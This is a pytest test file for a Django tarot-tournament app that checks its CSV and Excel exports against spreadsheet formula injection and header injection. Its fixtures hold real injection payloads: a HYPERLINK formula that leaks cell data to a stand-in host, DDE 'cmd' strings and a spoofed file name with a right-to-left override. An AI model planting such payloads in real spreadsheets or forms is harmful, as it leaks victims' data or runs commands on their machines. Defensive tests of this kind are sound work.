"""Spreadsheet formula injection (OWASP "CSV Injection"): no export lets a name become a formula.

Every download of a table (standings, all deals, a game's deals) in CSV and in Excel, with
players whose names start like a formula. A cell of text that starts with = + - @ (also after
spaces, and their full-width forms), a tab or a carriage return gets a leading apostrophe;
numbers stay numbers; every text field of the CSV is quoted.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import openpyxl
import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st

from tarotclub.games import services as games
from tarotclub.kinds.tarot import services as tarot
from tarotclub.players.services import player_create
from tarotclub.reports import exports
from tarotclub.tournaments import services
from tarotclub.tournaments.models import Table
from tests.tournaments.helpers import play_table

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd",
    "@SUM(1+1)*cmd",
    "\uff1d1+1 wide",  # full-width equals sign
    "=cmd|' /C notepad'!'A1'",
]
TRIGGERS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def dangerous(text: str) -> bool:
    """Would a spreadsheet read this text cell as the start of a formula?"""
    return bool(text) and (text[0] in TRIGGERS or text.lstrip()[:1] in TRIGGERS)


def xlsx_cells(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [cell for row in book.active.iter_rows() for cell in row]


def check_xlsx(response, names, *, numeric_headers=()) -> list:
    """No formula anywhere, hostile names kept readable behind an apostrophe; returns cells."""
    assert response.status_code == 200
    cells = xlsx_cells(response)
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if dangerous(t)]
    for name in names:
        assert any(("'" + name) in t for t in texts), name
    return cells


def check_csv(response, names) -> list[list]:
    """Every text field is quoted (so QUOTE_NONNUMERIC reads numbers as numbers), none is
    dangerous, hostile names kept behind an apostrophe."""
    assert response.status_code == 200
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), quoting=csv.QUOTE_NONNUMERIC))
    for row in rows:
        for cell in row:
            assert isinstance(cell, float | str)
            if isinstance(cell, str):
                assert not dangerous(cell), cell
    texts = [cell for row in rows for cell in row if isinstance(cell, str)]
    for name in names:
        assert any(("'" + name) in t for t in texts), name
    return rows


@pytest.fixture
def hostile_tournament():
    """Eight players, six of them with formula-like names, one round of two deals, confirmed."""
    t = services.tournament_create(
        name="Coupe =1+1", date=dt.date(2026, 11, 29), rounds=2, deals_per_round=2
    )
    players = [player_create(name=n) for n in [*HOSTILE, "Anne", "Bram"]]
    for i, p in enumerate(players):
        services.entry_register(tournament=t, player=p, licence="-1" if i == 0 else "")
    t = services.tournament_start(tournament=t)
    for table in Table.objects.filter(tournament=t, round=1):
        # low card points: the taker loses, so scores are negative numbers too
        play_table(table, points_for=lambda i: 30 + i)
    return t, players


def test_standings_exports_neutralise_formula_names(hostile_tournament, client):
    t, _players = hostile_tournament
    url = reverse("reports:standings_export", args=[t.pk, "xlsx"])
    cells = check_xlsx(client.get(url), HOSTILE)
    rows = check_csv(client.get(reverse("reports:standings_export", args=[t.pk, "csv"])), HOSTILE)
    # the licence "-1" is text in the standings: neutralised as text
    assert any(c.value == "'-1" for c in cells)
    # numbers stay numbers: the round and total columns, negative ones included
    header = rows[0]
    total = header.index("Total")
    totals = [row[total] for row in rows[1:]]
    assert all(isinstance(x, float) for x in totals) and min(totals) < 0
    book = openpyxl.load_workbook(io.BytesIO(client.get(url).content))
    sheet = [list(r) for r in book.active.iter_rows(values_only=True)]
    assert sheet[0][total] == "Total"
    column = [r[total] for r in sheet[1:]]
    assert all(isinstance(x, int) for x in column) and min(column) < 0


def test_standings_average_is_a_number(client, make_players):
    """Ranked by average, the average column is a number, a negative one too (not text)."""
    t = services.tournament_create(
        name="Average cup", date=dt.date(2026, 11, 29), rounds=2, deals_per_round=1
    )
    services.tournament_update(tournament=t, ranking="average", allow_three=False)
    for p in make_players("Anne", "Bram", "Chloé", "Dirk"):
        services.entry_register(tournament=t, player=p)
    t = services.tournament_start(tournament=t)
    play_table(Table.objects.get(tournament=t, round=1), points_for=lambda i: 30)
    response = client.get(reverse("reports:standings_export", args=[t.pk, "xlsx"]))
    sheet = [list(r) for r in xlsx_sheet(response)]
    average = sheet[0].index("Average")
    values = [r[average] for r in sheet[1:]]
    assert all(isinstance(v, int | float) for v in values), values
    assert min(values) < 0
    rows = check_csv(client.get(reverse("reports:standings_export", args=[t.pk, "csv"])), [])
    assert all(isinstance(r[average], float) for r in rows[1:])


def xlsx_sheet(response):
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return book.active.iter_rows(values_only=True)


def test_all_deals_exports_neutralise_formula_names(hostile_tournament, client):
    t, _players = hostile_tournament
    for query in ({}, {"round": 1}):
        xlsx = client.get(reverse("reports:deals_export", args=[t.pk, "xlsx"]), query)
        check_xlsx(xlsx, HOSTILE)
        rows = check_csv(client.get(reverse("reports:deals_export", args=[t.pk, "csv"]), query), [])
        # a seat's name starts with the hostile name: neutralised; its score stays a number
        head = rows[0]
        seats = ["North", "East", "South", "West"]
        names = [row[head.index(s)] for row in rows[1:] for s in seats]
        assert any(c.startswith("'") for c in names)
        scores = [row[head.index(f"{s} score")] for row in rows[1:] for s in seats]
        assert all(isinstance(x, float) for x in scores) and min(scores) < 0
        # the deal's number, round, table, bouts and points are numbers
        assert all(isinstance(x, float) for row in rows[1:] for x in row[:3])


def test_game_deals_exports_neutralise_formula_names(client):
    players = [player_create(name=n) for n in HOSTILE[:4]]
    game = games.game_start(players=players, first_dealer=0)
    for taker, points in ((players[0], 30), (players[2], 61)):
        tarot.deal_add(
            game=game,
            data=tarot.DealInput(taker=taker.pk, contract="garde", bouts=1, points=points),
        )
    # the players' names are the column headers: neutralised there too
    labels = [p.name for p in players]
    assert all(dangerous(label) for label in labels)
    xlsx = client.get(reverse("reports:game_deals_export", args=[game.token, "xlsx"]))
    cells = check_xlsx(xlsx, labels)
    header = [c.value for c in cells if c.row == 1]
    assert header[-4:] == ["'" + label for label in labels]
    scores = [c.value for c in cells if c.row > 1 and c.column > len(header) - 4]
    assert all(isinstance(s, int) for s in scores) and min(scores) < 0
    rows = check_csv(
        client.get(reverse("reports:game_deals_export", args=[game.token, "csv"])), labels
    )
    assert rows[0][-4:] == ["'" + label for label in labels]
    assert [r[-4:] for r in rows[1:]] == [[float(s) for s in r] for r in _by_row(cells)]


def _by_row(cells):
    rows: dict[int, list] = {}
    width = max(c.column for c in cells)
    for c in cells:
        if c.row > 1 and c.column > width - 4:
            rows.setdefault(c.row, []).append(c.value)
    return [rows[k] for k in sorted(rows)]


def test_control_characters_in_a_name_do_not_break_the_excel_export(client):
    """Excel refuses C0 control characters: the export drops them instead of failing."""
    players = [player_create(name=n) for n in ("Anne\x01", "Bram\x1b[31m", "Chloé", "Dirk")]
    game = games.game_start(players=players, first_dealer=0)
    tarot.deal_add(
        game=game, data=tarot.DealInput(taker=players[0].pk, contract="prise", bouts=1, points=50)
    )
    response = client.get(reverse("reports:game_deals_export", args=[game.token, "xlsx"]))
    assert response.status_code == 200
    texts = [c.value for c in xlsx_cells(response) if isinstance(c.value, str)]
    assert not [t for t in texts if re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", t)]


def test_hostile_names_never_reach_the_download_headers(client, make_players):
    """A tournament's or a game's name is slugified into the attachment's file name."""
    t = services.tournament_create(
        name='Cup"; filename=evil.exe\u202e', date=dt.date(2026, 11, 29), rounds=1
    )
    response = client.get(reverse("reports:standings_export", args=[t.pk, "csv"]))
    assert re.fullmatch(
        r'attachment; filename="[a-z0-9-]+\.csv"', response["Content-Disposition"]
    ), response["Content-Disposition"]
    game = games.game_start(
        players=make_players("Anne", "Bram", "Chloé", "Dirk"), name='x"\\ y.pdf'
    )
    response = client.get(reverse("reports:game_deals_export", args=[game.token, "xlsx"]))
    assert re.fullmatch(
        r'attachment; filename="[a-z0-9-]+\.xlsx"', response["Content-Disposition"]
    ), response["Content-Disposition"]


# --- the rule itself -------------------------------------------------------------------------


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-1+2",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "   =1+1",
        "\u00a0=1",
        "\uff1d1+1",
        "\uff0b1",
        "\uff0d1",
        "\uff20A1",
    ],
)
def test_safe_cell_prefixes_formula_starts(value):
    assert exports.safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", [-35, 0, 12, 40.5, -0.5, None, True])
def test_safe_cell_keeps_numbers_and_empties(value):
    assert exports.safe_cell(value) is value


@given(st.text())
def test_safe_cell_never_leaves_a_formula_start(text):
    out = exports.safe_cell(text)
    assert not dangerous(out)
    assert not re.search(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", out)
    clean = re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "", text)
    assert out in (clean, "'" + clean)  # readable: the text itself, at most one apostrophe more
    assert (out == clean) == (not dangerous(clean))
